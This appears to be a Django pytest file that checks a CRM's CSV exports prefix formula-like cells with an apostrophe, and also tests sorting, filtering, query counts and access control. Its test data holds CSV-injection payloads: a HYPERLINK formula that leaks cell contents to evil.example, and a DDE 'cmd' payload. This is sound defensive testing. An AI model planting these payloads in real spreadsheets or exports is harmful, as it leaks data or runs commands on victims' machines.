"""Every CSV Relay writes neutralises formulas: a cell starting with = + - @ tab or CR gets a leading '
(config.spreadsheet)."""

import ast
import csv
import io
from datetime import timedelta
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

import tests.paging
from config import spreadsheet, todo
from config.spreadsheet import safe_cell, unescape_cell
from customers import selectors as customers_selectors
from customers.models import Customer, ImportRowError
from feedback import selectors as feedback_selectors
from leads import selectors as leads_selectors
from tests.conftest import ROLES
from tests.factories import (
    CampaignFactory,
    ChannelFactory,
    ChannelSpendFactory,
    ComplaintFactory,
    CustomerFactory,
    ImportJobFactory,
    LeadFactory,
    NpsResponseFactory,
    OrderFactory,
    TagFactory,
    TaskFactory,
    UserFactory,
)

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8").lstrip("\ufeff"))))


@pytest.mark.parametrize("text", ["=1+2", "+86 139", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_safe_cell_prefixes_formula_starts_and_imports_take_it_off(text):
    assert safe_cell(text) == "'" + text
    assert unescape_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", ["Li Na", "", "'quoted", 12, -5, None])
def test_safe_cell_leaves_other_values(value):
    assert safe_cell(value) == value
    if isinstance(value, str):
        assert unescape_cell(value) == value


@pytest.mark.django_db
def test_customer_export_neutralises_formulas(client_as):
    CustomerFactory(name=FORMULA, company="@corp", city="-")
    rows = _rows(client_as("sales").get(reverse("customers:customer-export")))
    assert rows[1][1:4] == ["'" + FORMULA, "'@corp", "'-"]


@pytest.mark.django_db
def test_import_error_reports_neutralise_formulas(api_as, client_as):
    job = ImportJobFactory()
    ImportRowError.objects.create(job=job, row_number=2, column="name", reason=FORMULA)
    api_rows = _rows(api_as("marketing").get(f"/api/v1/imports/{job.pk}/errors.csv/"))
    page_rows = _rows(client_as("marketing").get(reverse("customers:import-errors", args=[job.pk])))
    assert api_rows[1] == page_rows[1] == ["2", "name", "'" + FORMULA]


@pytest.mark.django_db
def test_okr_report_csv_neutralises_formulas(client_as):
    ChannelSpendFactory(channel=ChannelFactory(code="evil", name=FORMULA), month="2026-03-01")
    url = reverse("okr:report-channels")
    rows = _rows(client_as("sales").get(url, {"start": "2026-03-01", "end": "2026-04-01", "format": "csv"}))
    assert rows[1][:2] == ["evil", "'" + FORMULA]


@pytest.mark.django_db
def test_an_exported_name_imports_back_unchanged(api_as, django_capture_on_commit_callbacks, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    exported = io.StringIO()
    writer = spreadsheet.writer(exported)
    writer.writerows([["name", "phone"], [FORMULA, "+8613912345678"]])
    assert "'=HYPERLINK" in exported.getvalue()
    upload = SimpleUploadedFile("c.csv", exported.getvalue().encode(), "text/csv")
    api = api_as("marketing")
    with django_capture_on_commit_callbacks(execute=True):
        job = api.post("/api/v1/imports/", {"kind": "customers", "file": upload, "dry_run": False}, format="multipart")
    assert job.status_code == 202, job.content
    customer = Customer.objects.get()
    assert (customer.name, customer.identities.get().value) == (FORMULA, "+8613912345678")


def test_every_csv_writer_is_the_safe_one():
    """No module writes CSV with the csv module directly (the benchmark writes an import file, not an export)."""
    allowed = {ROOT / "config" / "spreadsheet.py", ROOT / "customers" / "bench.py"}
    offenders = []
    for app in ("config", "customers", "leads", "feedback", "okr", "demo"):
        for path in sorted((ROOT / app).rglob("*.py")):
            if path in allowed or "migrations" in path.parts:
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if (
                    isinstance(node, ast.Attribute)
                    and node.attr in ("writer", "DictWriter")
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                ):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert not offenders, "use config.spreadsheet.writer: " + ", ".join(offenders)


# --- every list exports CSV with the page's filters and sort (config.lists, config.spreadsheet.streaming_response) ---


def _lead(n: int, name: str = "Li Na"):
    return [LeadFactory(customer=CustomerFactory(name=name), interest="@formula interest") for _ in range(n)]


def _order(n: int, name: str = "Li Na"):
    return [OrderFactory(customer=CustomerFactory(name=name), external_id=f"-ext-{i}") for i in range(n)]


def _complaint(n: int, name: str = "Li Na"):
    return [ComplaintFactory(customer=CustomerFactory(name=name), description="+1 refund please") for _ in range(n)]


def _nps(n: int, name: str = "Li Na"):
    return [NpsResponseFactory(customer=CustomerFactory(name=name), score=3, comment="=bad") for _ in range(n)]


def _campaign(n: int, name: str = "Spring"):
    return [CampaignFactory(name=f"{name} {i}" if i else name) for i in range(n)]


def _spend(n: int, name: str = "Douyin"):
    channel = ChannelFactory(name=name)
    return [ChannelSpendFactory(channel=channel, month=f"{2020 + i}-03-01") for i in range(n)]


# list URL name, export URL name, make(n, name), header, the column holding `name`, a sort of the list
EXPORTS = {
    "leads": ("leads:lead-list", "leads:lead-export", _lead, leads_selectors.EXPORT_HEADER, 2, "-id"),
    "orders": (
        "customers:order-list",
        "customers:order-export",
        _order,
        customers_selectors.ORDER_EXPORT_HEADER,
        2,
        "-amount",
    ),
    "campaigns": (
        "customers:campaign-list",
        "customers:campaign-export",
        _campaign,
        customers_selectors.CAMPAIGN_EXPORT_HEADER,
        1,
        "name",
    ),
    "spend": (
        "customers:spend-list",
        "customers:spend-export",
        _spend,
        customers_selectors.SPEND_EXPORT_HEADER,
        2,
        "month",
    ),
    "complaints": (
        "feedback:complaint-list",
        "feedback:complaint-export",
        _complaint,
        feedback_selectors.COMPLAINT_EXPORT_HEADER,
        2,
        "-severity",
    ),
    "nps": ("feedback:nps-list", "feedback:nps-export", _nps, feedback_selectors.NPS_EXPORT_HEADER, 2, "score"),
}


@pytest.mark.django_db
@pytest.mark.parametrize("kind", EXPORTS)
def test_each_list_exports_its_header_and_rows_with_formulas_neutralised(client_as, kind):
    _list, export, make, header, column, _sort = EXPORTS[kind]
    make(1, FORMULA)
    rows = _rows(client_as("sales").get(reverse(export)))
    assert rows[0] == header
    assert rows[1][column] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)


@pytest.mark.django_db
@pytest.mark.parametrize("kind", EXPORTS)
def test_the_export_has_the_rows_and_order_of_the_sorted_page_whole(client_as, kind):
    list_name, export, make, _header, _column, sort = EXPORTS[kind]
    make(7)
    client = client_as("marketing")
    page = client.get(reverse(list_name), {"sort": sort, "size": 3})
    first = page.context["leads"] if kind == "leads" else None
    shown = [row["pk"] for row in first] if first is not None else tests.paging.page_ids(page)
    cursor = parse_qs(urlsplit(page.context["next_url"]).query)["after"][0]
    rows = _rows(client.get(reverse(export), {"sort": sort, "size": 3, "after": cursor}))
    exported = [int(row[0]) for row in rows[1:]]
    assert len(exported) == 7  # every row: neither the page size nor a page cursor cuts an export
    assert exported[:3] == shown  # in the page's order


@pytest.mark.django_db
def test_the_export_keeps_the_page_filters(client_as):
    kept = LeadFactory(is_high_intent=True)
    LeadFactory()
    rows = _rows(client_as("sales").get(reverse("leads:lead-export"), {"high_intent": "true"}))
    assert [row[0] for row in rows[1:]] == [str(kept.pk)]
    order = OrderFactory(external_id="A-1")
    OrderFactory(external_id="B-2")
    rows = _rows(client_as("sales").get(reverse("customers:order-export"), {"customer": order.customer_id}))
    assert [row[0] for row in rows[1:]] == [str(order.pk)]


@pytest.mark.django_db
def test_the_lead_export_joins_tags_in_one_cell(client_as):
    lead = LeadFactory()
    lead.tags.add(TagFactory(name="vip"), TagFactory(name="hot"))
    rows = _rows(client_as("sales").get(reverse("leads:lead-export")))
    assert sorted(rows[1][8].split(", ")) == ["hot", "vip"]


@pytest.mark.django_db
@pytest.mark.parametrize("kind", EXPORTS)
def test_an_export_costs_the_same_queries_for_2_rows_as_for_40(client_as, kind, django_assert_max_num_queries):
    _list, export, make, _header, _column, sort = EXPORTS[kind]
    client = client_as("admin")
    url = reverse(export) + f"?sort={sort}"

    def count() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as queries:
            rows = _rows(client.get(url))  # the rows are read while the answer streams
        return len(queries.captured_queries), len(rows) - 1

    make(2)
    count()  # warm per-process caches
    small, shown = count()
    assert shown == 2
    make(38)
    with django_assert_max_num_queries(small):
        large, shown = count()
    assert (large, shown) == (small, 40)


@pytest.mark.django_db
@pytest.mark.parametrize("kind", EXPORTS)
@pytest.mark.parametrize("role", ROLES)
def test_every_staff_role_exports_what_it_reads(client_as, kind, role):
    response = client_as(role).get(reverse(EXPORTS[kind][1]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')


@pytest.mark.django_db
@pytest.mark.parametrize("kind", EXPORTS)
def test_outsiders_get_no_export(client, kind):
    url = reverse(EXPORTS[kind][1])
    response = client.get(url)
    assert response.status_code == 302 and "/login/" in response["Location"]
    client.force_login(UserFactory())  # signed in, in no department
    assert client.get(url).status_code == 403


# --- "My tasks" exports its tab (config.task_views.task_export) ------------------------------------------------


TASK_EXPORT = reverse("tasks:task-export")


def _task_rows(response) -> list[dict[str, str]]:
    rows = _rows(response)
    assert rows[0] == todo.EXPORT_HEADER
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.mark.django_db
def test_the_task_export_names_what_each_task_is_about_and_neutralises_formulas(client_as):
    client = client_as("sales")
    lead = LeadFactory()
    about_lead = TaskFactory(assignee=client.user, title="=cmd|' /C calc'!A0", about_record=lead, notes="-1")
    customer = CustomerFactory(name=FORMULA, company="Harbor Foods")
    about_customer = TaskFactory(assignee=client.user, title="Renewal call", about_record=customer)
    alone = TaskFactory(assignee=client.user, title="Expense report")
    rows = _task_rows(client.get(TASK_EXPORT, {"tab": "upcoming"}))
    by_id = {int(row["id"]): row for row in rows}
    assert set(by_id) == {about_lead.pk, about_customer.pk, alone.pk}
    first = by_id[about_lead.pk]
    assert (first["title"], first["notes"]) == ("'=cmd|' /C calc'!A0", "'-1")
    assert (first["about_type"], first["about_id"]) == ("lead", str(lead.pk))
    assert first["about"] == leads_selectors.lead_labels([lead.pk])[lead.pk]  # "#12 · Li Na · … · Accepted"
    second = by_id[about_customer.pk]
    assert (second["about_type"], second["about_id"]) == ("customer", str(customer.pk))
    assert second["about"] == "'" + customers_selectors.customer_labels([customer.pk])[customer.pk]
    assert FORMULA + " · Harbor Foods" in second["about"]
    assert (by_id[alone.pk]["about_type"], by_id[alone.pk]["about"]) == ("", "")
    assert first["assignee"] == client.user.username and first["department"] == "sales" and first["overdue"] == "no"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in _rows(client.get(TASK_EXPORT)) for cell in row)


@pytest.mark.django_db
def test_the_task_export_has_the_pages_tab_every_task_of_it_in_the_pages_order(client_as):
    client = client_as("service")
    me, now = client.user, timezone.now()
    overdue = [TaskFactory(assignee=me, due_at=now - timedelta(hours=n)) for n in (3, 1, 2, 5, 4)]
    TaskFactory(assignee=me, due_at=now + timedelta(days=3))  # upcoming
    TaskFactory(assignee=None, department="service")  # the queue
    TaskFactory(due_at=now - timedelta(days=1))  # a colleague's
    page = client.get(reverse("tasks:task-list"), {"size": 2})
    assert page.context["current"] == "overdue"  # the first tab with work, on the page and in its export
    assert page.context["export_url"] == f"{TASK_EXPORT}?tab=overdue"
    assert f'href="{TASK_EXPORT}?tab=overdue"' in page.content.decode()
    exported = [int(row["id"]) for row in _task_rows(client.get(TASK_EXPORT))]
    soonest_first = [t.pk for t in sorted(overdue, key=lambda t: t.due_at)]
    assert exported == soonest_first  # all five, though the page shows two
    assert exported[:2] == [task.pk for task in page.context["page"]]
    queue = _task_rows(client.get(TASK_EXPORT, {"tab": "queue"}))
    assert [row["assignee"] for row in queue] == [""] and queue[0]["department"] == "service"
    for tab in ("bogus", "team"):  # no such tab, or not this person's (the team tab is the managers'): the default
        assert [int(row["id"]) for row in _task_rows(client.get(TASK_EXPORT, {"tab": tab}))] == soonest_first


@pytest.mark.django_db
def test_the_task_export_of_done_tasks_says_who_did_what(client_as):
    client = client_as("marketing")
    done = TaskFactory(assignee=client.user, done_at=timezone.now(), done_by=client.user, outcome="Sent the brief")
    [row] = _task_rows(client.get(TASK_EXPORT, {"tab": "done"}))
    assert (int(row["id"]), row["outcome"], row["done_by"]) == (done.pk, "Sent the brief", client.user.username)
    assert row["done_at"] and row["overdue"] == "no"


@pytest.mark.django_db
def test_the_task_export_costs_the_same_queries_for_2_tasks_as_for_40(client_as, django_assert_max_num_queries):
    client = client_as("sales_manager")
    me = client.user

    def make(n: int) -> None:
        for index in range(n):  # about leads, customers and complaints, and about nothing
            record = [LeadFactory, CustomerFactory, ComplaintFactory, lambda: None][index % 4]()
            TaskFactory(assignee=me, about_record=record, due_at=timezone.now() + timedelta(days=2))

    def count() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as queries:
            rows = _rows(client.get(TASK_EXPORT, {"tab": "upcoming"}))
        return len(queries.captured_queries), len(rows) - 1

    make(4)
    count()  # warm per-process caches (content types)
    small, shown = count()
    assert shown == 4
    make(36)
    with django_assert_max_num_queries(small):
        large, shown = count()
    assert (large, shown) == (small, 40)


@pytest.mark.django_db
@pytest.mark.parametrize("role", ROLES)
def test_every_staff_role_exports_its_tasks(client_as, role):
    client = client_as(role)
    mine = TaskFactory(assignee=client.user, department="")
    response = client.get(TASK_EXPORT, {"tab": "upcoming"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="tasks-upcoming.csv"'
    assert [int(row["id"]) for row in _task_rows(response)] == [mine.pk]


@pytest.mark.django_db
def test_outsiders_get_no_task_export(client):
    response = client.get(TASK_EXPORT)
    assert response.status_code == 302 and "/login/" in response["Location"]
    client.force_login(UserFactory())  # signed in, in no department
    assert client.get(TASK_EXPORT).status_code == 403
